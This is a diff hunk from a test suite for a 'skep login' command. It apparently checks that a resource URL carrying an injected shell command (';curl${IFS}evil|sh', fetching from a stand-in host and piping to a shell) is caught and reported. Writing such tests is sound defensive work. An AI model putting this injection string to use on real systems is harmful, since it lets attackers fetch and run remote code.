@@ -27,7 +27,7 @@ describe('skep login', () => {
     [
       'a command',
       (address) => ({
-        resource: `${address}/;curl${'${IFS}'}evil|sh`,
+        resource: `${address}/;curl$\{IFS}evil|sh`,
         sign_in: [{ issuer: 'https://idp.test' }],
       }),
       /evil\|sh"; whoever runs it has to set its resourceUrl/,
